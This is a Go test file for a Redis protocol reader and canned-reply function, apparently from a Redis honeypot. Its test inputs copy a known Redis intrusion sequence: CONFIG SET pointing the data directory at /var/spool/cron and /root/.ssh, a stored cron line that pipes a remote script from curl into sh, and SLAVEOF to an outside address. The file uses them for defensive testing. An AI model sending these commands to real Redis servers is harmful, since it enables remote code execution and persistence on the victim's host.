package redis

import (
	"bufio"
	"bytes"
	"errors"
	"io"
	"reflect"
	"strings"
	"testing"
)

// Captured from redis-cli 7.0.15 (Debian redis-tools).
const (
	cliPing      = "*1\r\n$4\r\nPING\r\n"
	cliConfigSet = "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n"
)

func TestReadCommand(t *testing.T) {
	tests := []struct {
		name     string
		in       string
		maxArgs  int
		maxBytes int
		want     [][]string
		wantCut  bool
		wantErr  error // of the read after the last wanted command
	}{
		{name: "redis-cli PING", in: cliPing, want: [][]string{{"PING"}}, wantErr: io.EOF},
		{name: "redis-cli CONFIG SET", in: cliConfigSet,
			want: [][]string{{"config", "set", "dir", "/var/spool/cron"}}, wantErr: io.EOF},
		{name: "pipelined", in: cliPing + cliConfigSet,
			want: [][]string{{"PING"}, {"config", "set", "dir", "/var/spool/cron"}}, wantErr: io.EOF},
		{name: "inline", in: "INFO server\r\nPING\n", want: [][]string{{"INFO", "server"}, {"PING"}}, wantErr: io.EOF},
		{name: "empty inline lines skipped", in: "\r\n\r\nPING\r\n", want: [][]string{nil, nil, {"PING"}}, wantErr: io.EOF},
		{name: "binary bulk", in: "*2\r\n$3\r\nSET\r\n$4\r\n\x00\r\n\xff\r\n", want: [][]string{{"SET", "\x00\r\n\xff"}}, wantErr: io.EOF},
		{name: "args capped", in: "*3\r\n$1\r\na\r\n$1\r\nb\r\n$1\r\nc\r\nPING\r\n", maxArgs: 2,
			want: [][]string{{"a", "b"}, {"PING"}}, wantCut: true, wantErr: io.EOF},
		{name: "bytes capped", in: "*1\r\n$10\r\n0123456789\r\nPING\r\n", maxBytes: 4,
			want: [][]string{{"0123"}, {"PING"}}, wantCut: true, wantErr: io.EOF},
		{name: "inline capped", in: "a b c 0123456789\r\n", maxArgs: 3, maxBytes: 4,
			want: [][]string{{"a", "b", "c"}}, wantCut: true, wantErr: io.EOF},
		{name: "partial command", in: "*2\r\n$4\r\nPING\r\n", want: nil, wantErr: io.ErrUnexpectedEOF},
		{name: "partial line", in: "PI", want: nil, wantErr: io.ErrUnexpectedEOF},
		{name: "bad array length", in: "*x\r\n", wantErr: ErrMalformed},
		{name: "huge array", in: "*100000\r\n", wantErr: ErrMalformed},
		{name: "huge bulk", in: "*1\r\n$999999999\r\n", wantErr: ErrMalformed},
		{name: "negative bulk", in: "*1\r\n$-1\r\n", wantErr: ErrMalformed},
		{name: "not a bulk", in: "*1\r\n:1\r\n", wantErr: ErrMalformed},
		{name: "no CRLF after bulk", in: "*1\r\n$1\r\nabc\r\n", wantErr: ErrMalformed},
		{name: "line too long", in: strings.Repeat("A", maxInlineSize+1), wantErr: ErrMalformed},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			maxArgs, maxBytes := tc.maxArgs, tc.maxBytes
			if maxArgs == 0 {
				maxArgs = DefaultMaxArgs
			}
			if maxBytes == 0 {
				maxBytes = DefaultMaxArgBytes
			}
			r := bufio.NewReaderSize(strings.NewReader(tc.in), maxInlineSize)
			var got [][]string
			cut := false
			var err error
			for {
				var args []string
				var c bool
				args, c, err = ReadCommand(r, maxArgs, maxBytes)
				if err != nil {
					break
				}
				cut = cut || c
				got = append(got, args)
			}
			if !reflect.DeepEqual(got, tc.want) || cut != tc.wantCut || !errors.Is(err, tc.wantErr) {
				t.Errorf("ReadCommand(%q) = %q, cut %v, then %v; want %q, cut %v, then %v",
					tc.in, got, cut, err, tc.want, tc.wantCut, tc.wantErr)
			}
		})
	}
}

func TestReply(t *testing.T) {
	tests := []struct {
		name     string
		args     []string
		want     string // prefix
		wantQuit bool
	}{
		{name: "ping", args: []string{"ping"}, want: "+PONG\r\n"},
		{name: "ping msg", args: []string{"PING", "hi"}, want: "$2\r\nhi\r\n"},
		{name: "info", args: []string{"INFO"}, want: "$"},
		{name: "set", args: []string{"SET", "x", "\n\n*/1 * * * * curl http://x/s|sh\n\n"}, want: "+OK\r\n"},
		{name: "config set", args: []string{"config", "set", "dir", "/root/.ssh"}, want: "+OK\r\n"},
		{name: "config get dir", args: []string{"CONFIG", "GET", "dir"}, want: "*2\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n"},
		{name: "config get other", args: []string{"CONFIG", "GET", "maxmemory"}, want: "*0\r\n"},
		{name: "slaveof", args: []string{"SLAVEOF", "192.0.2.1", "6379"}, want: "+OK\r\n"},
		{name: "keys", args: []string{"KEYS", "*"}, want: "*0\r\n"},
		{name: "quit", args: []string{"QUIT"}, want: "+OK\r\n", wantQuit: true},
		{name: "unknown", args: []string{"FOO", "a\r\nb"}, want: "-ERR unknown command `FOO`, with args beginning with: `a  b`, \r\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, quit := Reply(tc.args)
			if !bytes.HasPrefix(got, []byte(tc.want)) || quit != tc.wantQuit {
				t.Errorf("Reply(%q) = %q, %v; want prefix %q, %v", tc.args, got, quit, tc.want, tc.wantQuit)
			}
			if bytes.Count(got, []byte("\r\n")) > 2 && got[0] != '$' && got[0] != '*' {
				t.Errorf("Reply(%q) = %q: a simple reply spans lines", tc.args, got)
			}
		})
	}
}

func FuzzReadCommand(f *testing.F) {
	for _, s := range []string{cliPing, cliConfigSet, "PING\r\n", "*2\r\n$3\r\nGET\r\n$1\r\nx\r\n", "*1\r\n$-1\r\n", "\r\n"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		const maxArgs, maxBytes = 3, 8
		Match(in)
		r := bufio.NewReaderSize(bytes.NewReader(in), maxInlineSize)
		for range len(in) + 1 { // each command consumes at least one byte
			args, _, err := ReadCommand(r, maxArgs, maxBytes)
			if len(args) > maxArgs {
				t.Fatalf("%d args, cap %d", len(args), maxArgs)
			}
			for _, a := range args {
				if len(a) > maxBytes {
					t.Fatalf("arg of %d bytes, cap %d", len(a), maxBytes)
				}
			}
			if len(args) > 0 {
				Reply(args)
			}
			if err != nil {
				return
			}
		}
		t.Fatalf("ReadCommand did not finish %q", in)
	})
}

func TestMatch(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want bool
	}{
		{"redis-cli PING", cliPing, true},
		{"redis-cli CONFIG SET", cliConfigSet, true},
		{"many args", "*12\r\n$3\r\nSET\r\n", true},
		{"inline", "PING\r\n", false},
		{"no count", "*\r\n$4\r\n", false},
		{"not bulk", "*1\r\n:1\r\n", false},
		{"glob", "*.*", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Match([]byte(tc.in)); got != tc.want {
				t.Errorf("Match(%q) = %v, want %v", tc.in, got, tc.want)
			}
		})
	}
}
